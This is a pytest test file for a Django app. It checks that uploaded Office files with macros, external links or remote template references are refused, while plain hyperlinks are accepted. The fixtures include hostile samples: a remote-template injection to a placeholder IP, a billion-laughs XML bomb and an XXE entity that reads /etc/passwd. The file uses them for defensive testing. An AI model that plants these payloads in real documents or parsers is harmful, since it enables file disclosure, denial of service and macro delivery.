"""Office files that act when opened — macros, links to other files fetched on opening — are refused at upload, by
the attachments and by the unit import alike (huhang/uploads.py); a plain hyperlink is not such a link. The files are
real Office packages: written by openpyxl or built here part by part, as Office writes them."""

import io
import zipfile

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from accounts.models import Role
from archives.attachments import check_upload
from huhang.uploads import OFFICE_EXTERNAL_LINKS, OFFICE_MACROS, OFFICE_REFUSAL_MESSAGES
from tests.factories import ActivityFactory, two_served_units
from units.importing import inspect_file
from units.importing.reading import read_file

RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
PPTX_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
PPTM_MAIN = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
# The OLE compound file a VBA project is stored in: its signature, then the _VBA_PROJECT stream's name somewhere.
VBA_PROJECT = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "_VBA_PROJECT".encode("utf-16-le")


def workbook(*, hyperlink: bool = False) -> bytes:
    """A unit list as the import expects it, written by openpyxl; optionally with a web link in a cell."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["单位名称", "统一社会信用代码", "类别", "设区市", "区县"])
    sheet.append(["西湖光电实验室", "91330100MA2KXXXX0A", "重点实验室", "杭州市", "西湖区"])
    if hyperlink:
        sheet["A2"].hyperlink = "https://www.zjamr.zj.gov.cn/"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def document(main_content_type: str = DOCX_MAIN) -> bytes:
    """A minimal Word document: content types, the package's relationships and the body."""
    return package(
        {
            "[Content_Types].xml": content_types({"/word/document.xml": main_content_type}),
            "_rels/.rels": rels([("rId1", "officeDocument", "word/document.xml", None)]),
            "word/document.xml": '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
            'main"><w:body><w:p><w:r><w:t>服务方案</w:t></w:r></w:p></w:body></w:document>',
        }
    )


def presentation(main_content_type: str = PPTX_MAIN) -> bytes:
    return package(
        {
            "[Content_Types].xml": content_types({"/ppt/presentation.xml": main_content_type}),
            "_rels/.rels": rels([("rId1", "officeDocument", "ppt/presentation.xml", None)]),
            "ppt/presentation.xml": '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/'
            '2006/main"/>',
        }
    )


def content_types(overrides: dict[str, str], defaults: dict[str, str] | None = None) -> str:
    defaults = {"rels": "application/vnd.openxmlformats-package.relationships+xml", "xml": "application/xml"} | (
        defaults or {}
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        + "".join(f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in defaults.items())
        + "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides.items())
        + "</Types>"
    )


def rels(relationships: list[tuple[str, str, str, str | None]]) -> str:
    items = "".join(
        f'<Relationship Id="{rid}" Type="{REL_TYPE}{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for rid, kind, target, mode in relationships
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS_NS}">{items}</Relationships>'


def package(parts: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def changed(office_file: bytes, *, add: dict[str, str | bytes] | None = None, edit=None) -> bytes:
    """The file rewritten with parts added, and each part's text passed through `edit(name, text)`."""
    parts: dict[str, str | bytes] = {}
    with zipfile.ZipFile(io.BytesIO(office_file)) as archive:
        for name in archive.namelist():
            data = archive.read(name)
            parts[name] = edit(name, data.decode()) if edit and name.endswith((".xml", ".rels")) else data
    return package(parts | (add or {}))


def with_sheet_relationship(kind: str, target: str, mode: str | None = "External") -> bytes:
    """The unit list with one more relationship of its first sheet (added to the rels openpyxl wrote, or new)."""
    return changed(workbook(), add={"xl/worksheets/_rels/sheet1.xml.rels": rels([("rId9", kind, target, mode)])})


def refusal_of_attachment(name: str, content: bytes) -> str | None:
    try:
        check_upload(SimpleUploadedFile(name, content))
    except ValidationError as error:
        return error.code
    return None


def refusal_of_import(content: bytes, tmp_path) -> str | None:
    path = tmp_path / "名单.xlsx"
    path.write_bytes(content)
    problems = inspect_file(path)
    return problems[0].code if problems else None


# --- Accepted ------------------------------------------------------------------------------------------------------


def test_plain_office_files_are_accepted(tmp_path):
    assert refusal_of_attachment("名单.xlsx", workbook()) is None
    assert refusal_of_attachment("方案.docx", document()) is None
    assert refusal_of_attachment("汇报.pptx", presentation()) is None
    assert refusal_of_import(workbook(), tmp_path) is None


@pytest.mark.django_db
def test_a_web_link_in_a_cell_is_a_harmless_external_target_and_is_accepted(tmp_path):
    linked = workbook(hyperlink=True)
    with zipfile.ZipFile(io.BytesIO(linked)) as archive:  # openpyxl wrote it as Office does: an External target
        sheet_rels = archive.read("xl/worksheets/_rels/sheet1.xml.rels").decode()
    assert 'TargetMode="External"' in sheet_rels
    assert "relationships/hyperlink" in sheet_rels
    assert refusal_of_attachment("名单.xlsx", linked) is None
    assert refusal_of_import(linked, tmp_path) is None
    assert read_file(tmp_path / "名单.xlsx").rows_read == 1  # and the import reads it to the end


def test_a_hyperlink_in_a_word_document_is_accepted():
    linked = changed(
        document(),
        add={"word/_rels/document.xml.rels": rels([("rId5", "hyperlink", "https://www.cnipa.gov.cn/", "External")])},
    )
    assert refusal_of_attachment("方案.docx", linked) is None


# --- Macros --------------------------------------------------------------------------------------------------------

MACRO_FILES = {
    "a VBA project in a workbook": ("名单.xlsx", lambda: changed(workbook(), add={"xl/vbaProject.bin": VBA_PROJECT})),
    "a macro-enabled workbook renamed .xlsx": (
        "名单.xlsx",
        lambda: changed(workbook(), edit=lambda name, text: text.replace(XLSX_MAIN, XLSM_MAIN)),
    ),
    "an Excel 4.0 macro sheet": (
        "名单.xlsx",
        lambda: changed(workbook(), add={"xl/macrosheets/sheet2.xml": "<xm:macrosheet/>"}),
    ),
    "a VBA project in a Word document": ("方案.docx", lambda: changed(document(), add={"word/vbaProject.bin": b"x"})),
    "a .docm renamed .docx": ("方案.docx", lambda: document(DOCM_MAIN)),
    "a .pptm renamed .pptx": ("汇报.pptx", lambda: presentation(PPTM_MAIN)),
    "a macro-enabled workbook embedded in a document": (
        "方案.docx",
        lambda: changed(document(), add={"word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm": b"PK"}),
    ),
    "a VBA project's content type declared": (
        "汇报.pptx",
        lambda: changed(
            presentation(),
            edit=lambda name, text: text.replace(
                "<Default Extension",
                '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension',
                1,
            ),
        ),
    ),
}


@pytest.mark.parametrize("case", MACRO_FILES)
def test_an_attachment_with_macros_is_refused_with_the_reason(case):
    name, build = MACRO_FILES[case]
    with pytest.raises(ValidationError) as refused:
        check_upload(SimpleUploadedFile(name, build()))
    assert refused.value.code == OFFICE_MACROS
    message = refused.value.messages[0]
    assert name in message
    assert str(OFFICE_REFUSAL_MESSAGES[OFFICE_MACROS]) in message


@pytest.mark.parametrize("case", [case for case, (name, _build) in MACRO_FILES.items() if name.endswith(".xlsx")])
def test_the_unit_import_refuses_a_workbook_with_macros_before_opening_it(case, tmp_path):
    assert refusal_of_import(MACRO_FILES[case][1](), tmp_path) == OFFICE_MACROS
    problems = read_file(tmp_path / "名单.xlsx").problems
    assert [problem.code for problem in problems] == [OFFICE_MACROS]
    # The import page says why in the attachments' words (units/importing/result.py).
    assert problems[0].describe() == str(OFFICE_REFUSAL_MESSAGES[OFFICE_MACROS])


# --- External links ------------------------------------------------------------------------------------------------

EXTERNAL_FILES = {
    "a link to another workbook (externalLinks/)": lambda: changed(
        workbook(),
        add={
            "xl/externalLinks/externalLink1.xml": "<externalLink/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": rels(
                [("rId1", "externalLinkPath", "file:///C:/财务/预算.xlsx", "External")]
            ),
        },
    ),
    "a linked OLE object": lambda: with_sheet_relationship("oleObject", "file://fileserver/share/x.bin"),
    "a remote image fetched on opening": lambda: with_sheet_relationship("image", "http://203.0.113.9/a.png"),
    "an external link path with the mode in lower case": lambda: with_sheet_relationship(
        "externalLinkPath", "\\\\203.0.113.9\\share\\x.xlsx", "external"
    ),
}


@pytest.mark.parametrize("case", EXTERNAL_FILES)
def test_an_attachment_with_external_links_is_refused_with_the_reason(case):
    with pytest.raises(ValidationError) as refused:
        check_upload(SimpleUploadedFile("名单.xlsx", EXTERNAL_FILES[case]()))
    assert refused.value.code == OFFICE_EXTERNAL_LINKS
    assert str(OFFICE_REFUSAL_MESSAGES[OFFICE_EXTERNAL_LINKS]) in refused.value.messages[0]


@pytest.mark.parametrize("case", EXTERNAL_FILES)
def test_the_unit_import_refuses_a_workbook_with_external_links(case, tmp_path):
    assert refusal_of_import(EXTERNAL_FILES[case](), tmp_path) == OFFICE_EXTERNAL_LINKS


def test_a_word_document_on_an_attached_remote_template_is_refused():
    # The "template injection" of phishing documents: the template, with its macros, is fetched when it is opened.
    template = rels([("rId1", "attachedTemplate", "http://203.0.113.9/normal.dotm", "External")])
    attacked = changed(document(), add={"word/_rels/settings.xml.rels": template, "word/settings.xml": "<w:s/>"})
    assert refusal_of_attachment("方案.docx", attacked) == OFFICE_EXTERNAL_LINKS


def test_an_internal_relationship_of_any_type_is_not_a_link_out():
    embedded = changed(document(), add={"word/_rels/document.xml.rels": rels([("rId7", "image", "media/a.png", None)])})
    assert refusal_of_attachment("方案.docx", embedded) is None


# --- Package XML that is not safe to parse -------------------------------------------------------------------------

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    f'<Relationships xmlns="{RELS_NS}"><Relationship Id="&lol2;" Type="x" Target="y"/></Relationships>'
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    f'<Relationships xmlns="{RELS_NS}"><Relationship Id="&x;" Type="x" Target="y"/></Relationships>'
)


@pytest.mark.parametrize("xml", [BILLION_LAUGHS, EXTERNAL_ENTITY, "<Relationships><unclosed></Relationships>"])
def test_package_xml_with_entities_or_broken_is_refused_without_being_expanded(xml, tmp_path):
    hostile = changed(workbook(), add={"xl/_rels/extra.xml.rels": xml})
    assert refusal_of_attachment("名单.xlsx", hostile) == "content_mismatch"
    assert refusal_of_import(hostile, tmp_path) == "not_xlsx"


# --- Through the page ----------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_team_adding_a_workbook_with_macros_to_an_activity_is_told_why_and_nothing_is_saved(
    client, users, unit, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path / "media"
    member = users[Role.TEAM_MEMBER]
    two_served_units(member, unit)
    activity = ActivityFactory(actor=member, unit=unit)
    client.force_login(member)
    macro_workbook = changed(workbook(), add={"xl/vbaProject.bin": VBA_PROJECT})
    response = client.post(
        reverse("archives:activity_attach", kwargs={"uid": activity.uid}),
        {"files": [SimpleUploadedFile("名单.xlsx", macro_workbook), SimpleUploadedFile("链接.xlsx", workbook())]},
        follow=True,
    )
    messages = [str(message) for message in response.context["messages"]]
    assert len(messages) == 1
    assert "名单.xlsx" in messages[0]
    assert str(OFFICE_REFUSAL_MESSAGES[OFFICE_MACROS]) in messages[0]
    assert not activity.attachments.exists()  # the harmless file of the same upload waits for the next try
